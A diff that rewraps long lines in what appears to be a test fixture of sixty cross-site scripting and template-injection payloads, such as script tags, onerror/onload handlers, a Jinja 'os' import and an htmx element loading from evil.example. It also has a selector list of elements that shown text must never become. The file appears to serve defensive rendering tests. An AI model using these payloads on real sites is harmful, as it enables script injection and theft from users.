@@ -1,7 +1,8 @@
-"""Sixty texts that would run a script or load something, were a page to take them for more than text. Knows no page.
+"""Sixty texts that would run a script or load something, were a page to take them for more than
+text. Knows no page.
 
-Each calls `alert` or asks `evil.example` for something. After OWASP's filter evasion cheat sheet and the known ways through Markdown,
-SVG, MathML, templates, CSS and attributes.
+Each calls `alert` or asks `evil.example` for something. After OWASP's filter evasion cheat sheet
+and the known ways through Markdown, SVG, MathML, templates, CSS and attributes.
 """
 
 EVIL = "https://evil.example"
@@ -60,7 +61,8 @@ PAYLOADS = (
     '[x]("onmouseover=alert(1) x=")',
     "```html\n<script>alert(1)</script>\n```",
     "`<img src=x onerror=alert(1)>`",
-    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| <svg onload=alert(1)> | x |",
+    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| <svg "
+    "onload=alert(1)> | x |",
     "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}{% import 'os' as os %}",
     "${alert(1)} #{alert(1)} <%= alert(1) %>",
     f"<p hx-get='{EVIL}/hx' hx-trigger=load hx-on:click=alert(1)>x</p>",
@@ -70,4 +72,7 @@ PAYLOADS = (
 )
 
 # Elements that a shown text can never become.
-ALIVE = "script, img, iframe, object, embed, svg, math, video, audio, form, input, select, link, style, meta, base, a, template, [onerror], [onload], [onfocus]"
+ALIVE = (
+    "script, img, iframe, object, embed, svg, math, video, audio, form, input, select, link, "
+    "style, meta, base, a, template, [onerror], [onload], [onfocus]"
+)
